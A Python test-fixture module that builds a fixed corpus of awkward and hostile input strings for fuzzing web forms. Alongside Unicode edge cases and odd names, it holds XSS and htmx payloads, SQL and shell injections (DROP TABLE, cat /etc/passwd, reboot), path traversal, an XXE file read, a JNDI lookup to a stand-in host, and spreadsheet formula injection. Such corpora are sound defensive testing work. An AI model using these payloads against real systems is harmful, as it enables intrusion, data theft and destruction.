"""Nasty input: 536 fixed strings under 27 headings. `nasty_fields` has dates, numbers, choices, bodies, hidden values.

Everything is fixed and in the same order each time, so that a finding can be named: `("only spaces", 3)`. What once
broke something stays in `CORPUS` for ever.
"""

import unicodedata
from itertools import product
from pathlib import Path

SPACES = (
    "\u0020\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000"  # 17 kinds
)
HOSTILE = "alert(1)"


def _controls():
    yield from (f"Ada{chr(code)}Quill" for code in (*range(9), 11, 12, *range(14, 32), 127))  # 30
    yield from ("\x00", "Ada\x85\x9bQuill")


def _breaks():
    breaks = ("\n", "\r", "\r\n", "\n\r", "\u0085", "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e")
    return (f"one{sign}two" for sign in breaks)


def _directions():
    signs = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    yield from (f"ab{sign}cd" for sign in signs)
    yield from ("\u202egnp.exe", "\u2067\u2067\u2067open", "\u2069\u2069closed", "\u202eAda\u202c \u2066Quill\u2069")


def _joiners():
    signs = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2062\u2063\u2064\u115f\u3164"
    yield from (f"A{sign}da" for sign in signs)
    yield from ("\u200b" * 40, "\ufeffAda\ufeff")


def _towers():
    marks = "\u0300\u0323\u0336\u0488\u20dd\u0489"
    yield from (f"A{mark * 50}da" for mark in marks)
    yield from (f"A{mark * 500}" for mark in marks)


def _emoji():
    yield from [
        "😀",
        "❤️",
        "☠️",
        "☎️",
        "🇺🇸",
        "🇲🇽",
        "🇪🇸",
        "👍🏻",
        "👍🏿",
        "👩🏽",
        "👨\u200d👩\u200d👧\u200d👦",
        "👩🏾\u200d⚕️",
        "🧑🏻\u200d🦽",
        "🏳️\u200d🌈",
        "🏴\u200d☠️",
        "1️⃣",
        "#️⃣",
        "🫀",
        "🦴",
        "🧠",
    ]
    yield from ("🇺" * 3, "👨‍", "🏴\U000e0067\U000e0062\U000e007f", "😀" * 300)


def _surrogates():
    return ("\ud800", "\udfff", "Ada\ud83d", "\ude00Ada", "\udc00\ud800", "a\ud800b", "\ud800" * 9, "\udbff\udbff")


def _normal_forms():
    letters = ("é", "ñ", "Å", "ﬁ", "ǆ", "①", "ﾊ", "각")
    for letter in letters:
        yield unicodedata.normalize("NFD", letter) + "da"
        yield unicodedata.normalize("NFKC", letter) + "da"


def _right_to_left():
    yield from ["שלום", "דוד־בן־צבי", "مرحبا", "محمّد", "فارسی", "اُردو", "ܫܠܡܐ", "ދިވެހި", "ߒߞߏ"]
    yield from ("‏(דוד)", "Ada מרים Quill", "١٢٣ محمد", "א" * 80, 'ל\' "ד"', "עמוד 3 מתוך 5", "C++ هو لغة")


def _case_lengths():
    return ("İstanbul", "ıspanak", "Straße", "ŉgoma", "ǰan", "ΐ", "ﬃ", "ẞ")


def _lookalikes():
    yield from ["Аda", "АDA", "Аdа", "аda", "Adа", "Ꭺda", "𝐀da", "𝓐𝓭𝓪", "Ａｄａ", "Ǻda", "Αda", "ᗩᗪᗩ", "Ada․", "Аԁа"]
    yield from ("Ada\u2024com", "раура1")


def _long():
    for sign, size in product("añ😀", (1_000, 64_000, 1_000_000, 5_000_000)):
        yield sign * (size // len(sign.encode()))


def _spaces():
    return (space * 3 for space in SPACES)


def _html():
    tags = (
        "script", "img src=x onerror", "svg onload", "iframe srcdoc", "body onload", "input autofocus onfocus",
        "details open ontoggle", "video src=x onerror", "a href", "style", "link rel=stylesheet href", "base href",
        "meta http-equiv=refresh content", "form action", "object data",
    )  # fmt: skip
    for tag in tags:
        name = tag.split()[0]
        yield f"<{tag}={HOSTILE}></{name}>"
        yield f'"><{tag}="{HOSTILE}">'
        yield f"'><{tag}='{HOSTILE}'>"
        yield f"</textarea><{tag}={HOSTILE}>"


def _htmx():
    asks = ("hx-get", "hx-post", "hx-on:click", "hx-vals", "hx-trigger", "hx-swap-oob", "hx-target", "hx-headers")
    for name in asks:
        yield f'" {name}="/intake/leave/'
        yield f"<b {name}='js:{HOSTILE}'>x</b>"
        yield f"{name}=true"


def _templates():
    insides = ("7*7", "request.user.password", "settings.SECRET_KEY", "''.__class__.__mro__")
    marks = ("{{ %s }}", "{%% debug %s %%}", "${%s}", "#{%s}")
    return (mark % inside for mark, inside in product(marks, insides))


def _sql():
    starts = ("'", '"', "')", "1")
    ends = (
        " OR 1=1 --", "; DROP TABLE intake_patient; --", " UNION SELECT NULL,NULL --", "||pg_sleep(9)--",
        " AND 1=CAST((SELECT version()) AS int)", "/**/OR/**/1", " \\'; --", "$$; SELECT 1",
    )  # fmt: skip
    return (start + end for start, end in product(starts, ends))


def _shell():
    marks = ("; {}", "| {}", "`{}`", "$({})")
    return (mark.format(command) for mark, command in product(marks, ("id", "sleep 9", "cat /etc/passwd", "reboot")))


def _paths():
    roots = ("../", "..\\", "/", "file:///", "%2e%2e%2f", "....//", "\\\\host\\share\\", "~/")
    return (root + leaf for root, leaf in product(roots, ("etc/passwd", "NUL", "a\x00.png")))


def _formulas():
    return (start + rest for start, rest in product("=+-@", ("1+1", "SUM(A1)", "HYPERLINK(1)", "cmd|' /C calc'!A0")))


def _headers():
    breaks = ("\r\n", "\n", "\r", "%0d%0a")
    lines = ("Bcc: a@b.example", "Set-Cookie: a=b", "Location: //x.example", "\r\nbody")
    return (f"Ada{end}{line}" for end, line in product(breaks, lines))


def _logs():
    escapes = ("\x1b[2J", "\x1b]0;title\x07", "\x1b[31m", "\x1bc", "\x9b1m", "\b\b\b")
    yield from (f"Ada{escape}Quill" for escape in escapes)
    yield from (
        "Ada\nERROR admin signed in", "Ada\r\n2026-01-01 INFO ok", "%d %s %n", "\x1b[8mhidden\x1b[0m",
        "${jndi:ldap://x.example/a}", "\u2028INFO forged",
    )  # fmt: skip


def _formats():
    return ("%s%s%s%s", "%n%n%n", "%(key)s", "%1$*1$d", "{0}{1}", "{self.__init__}", "{!r:>999999}", "%99999999s")


def _xml():
    yield '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    yield '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield from ("<![CDATA[<b>]]>", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!-- x", "]]>", "&#0;", "&#x110000;")
    yield from ("&nbsp;&amp;&lt;", "&" * 300, "<a/><a/>" * 50)


def _addresses_of_schemes():
    schemes = [
        "javascript",
        "data",
        "vbscript",
        "file",
        "http",
        "https",
        "ftp",
        "ws",
        "blob",
        "mailto",
        "tel",
        "intent",
    ]
    for scheme in schemes:
        yield f"{scheme}:{HOSTILE}"
        yield f" \t{scheme.upper()}://x.example/?a=%00#b"


def _names():
    yield from [
        "Null",
        "None",
        "undefined",
        "NaN",
        "true",
        "false",
        "Test",
        "nobody",
        "O'Brien",
        "D’Arcy",
        "Ng",
        "X",
        "Y.",
        "Æ",
        "Ỳ",
        "İ",
    ]
    yield from (
        "Mary-Jane", "Jean-Luc-Pierre", "van der Berg", "de la Cruz", "St. John", "Smith, Jr.", "Lee III", "-",
        "Ada (she/her)", "A", "名", "Nguyễn Thị", "Ana María", "María José del Carmen", "Mc Donald", "MACDONALD",
        "o'neill", "Zoë", "Ólafur", "d'", "'t Hooft", "N/A", "Hubert Blaine Wolfeschlegelsteinhausenbergerdorff " * 2,
        "A" * 70,
    )  # fmt: skip


def _mail_addresses():
    yield from (
        "a@b", "a@b.example", '"a b"@x.example', '"a@b"@x.example', "a@[127.0.0.1]", "a@[IPv6:::1]", "a+b@x.example",
        "a..b@x.example", ".a@x.example", "a.@x.example", "@x.example", "a@", "a@@x.example", "a@x..example",
        "a@-x.example", "a@x-.example", "a@x.example.", "a b@x.example", "a@x .example", "<a@x.example>",
        "Ada <a@x.example>", "a@x.example,b@x.example", "a@x.example;b@x.example", "ä@x.example", "a@bücher.example",
        "a@xn--bcher-kva.example", f"{'a' * 65}@x.example", f"a@{'b' * 64}.example", f"a@{'b.' * 130}example",
        "a@x.example\r\nBcc: b@x.example", "a(note)@x.example",
    )  # fmt: skip


HEADINGS = {  # heading: (how many there must be, what they are)
    "null bytes and control signs": (32, _controls),
    "line and paragraph breaks": (12, _breaks),
    "right-to-left and isolates": (16, _directions),
    "zero-width and joiners": (16, _joiners),
    "combining towers": (12, _towers),
    "emoji": (24, _emoji),
    "lone surrogates": (8, _surrogates),
    "normal forms that collide": (16, _normal_forms),
    "right-to-left scripts": (16, _right_to_left),
    "letters whose case changes length": (8, _case_lengths),
    "look-alikes": (16, _lookalikes),
    "long texts": (12, _long),
    "only spaces": (17, _spaces),
    "HTML and script": (60, _html),
    "htmx attributes": (24, _htmx),
    "template marks": (16, _templates),
    "SQL": (32, _sql),
    "shell": (16, _shell),
    "paths": (24, _paths),
    "formula starts": (16, _formulas),
    "header breaks": (16, _headers),
    "log and terminal escapes": (12, _logs),
    "format strings": (8, _formats),
    "XML and entities": (12, _xml),
    "addresses of 12 schemes": (24, _addresses_of_schemes),
    "names that break software": (40, _names),
    "mail addresses": (31, _mail_addresses),
}
FIXED = {heading: tuple(strings()) for heading, (_count, strings) in HEADINGS.items()}
STRINGS = tuple(string for strings in FIXED.values() for string in strings)

CORPUS = (f"a@{'b.' * 124}example",)  # strings that once broke a form; none ever goes


def plain_texts() -> list[str]:
    """200 ordinary names, addresses and complaints in English and Spanish."""
    lines = Path(__file__).with_name("plain_texts.txt").read_text("utf-8").splitlines()
    return lines[1:]
